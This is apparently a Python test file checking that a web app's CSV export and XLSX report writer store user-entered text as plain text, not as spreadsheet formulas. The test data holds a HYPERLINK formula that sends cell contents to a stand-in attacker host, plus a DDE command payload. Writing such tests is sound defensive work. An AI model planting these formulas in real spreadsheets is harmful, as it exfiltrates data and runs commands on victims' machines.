"""What people write reaches spreadsheets as text, never as a formula."""

from __future__ import annotations

import csv
import io

from tests.web.conftest import Visitor

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_public_csv_neutralises_formulas(web, world):
    pid = world.new_proposal(title=FORMULA, content="+cmd|' /C calc'!A0")
    world.to_contracting(pid)
    rows = list(csv.reader(io.StringIO(Visitor(web).get("/public/data.csv").text.lstrip("\ufeff"))))
    [row] = rows[1:]
    assert row[1] == "'" + FORMULA
    assert all(not c.startswith(("=", "+", "-", "@")) for c in row)


def test_report_xlsx_keeps_formulas_as_text(tmp_path):
    from openpyxl import Workbook, load_workbook

    from cli.report_formats.xlsx import _row

    wb = Workbook()
    _row(wb.active, ["事業名", FORMULA])
    wb.save(tmp_path / "r.xlsx")
    cell = load_workbook(tmp_path / "r.xlsx").active.cell(1, 2)
    assert cell.data_type == "s" and cell.value == FORMULA
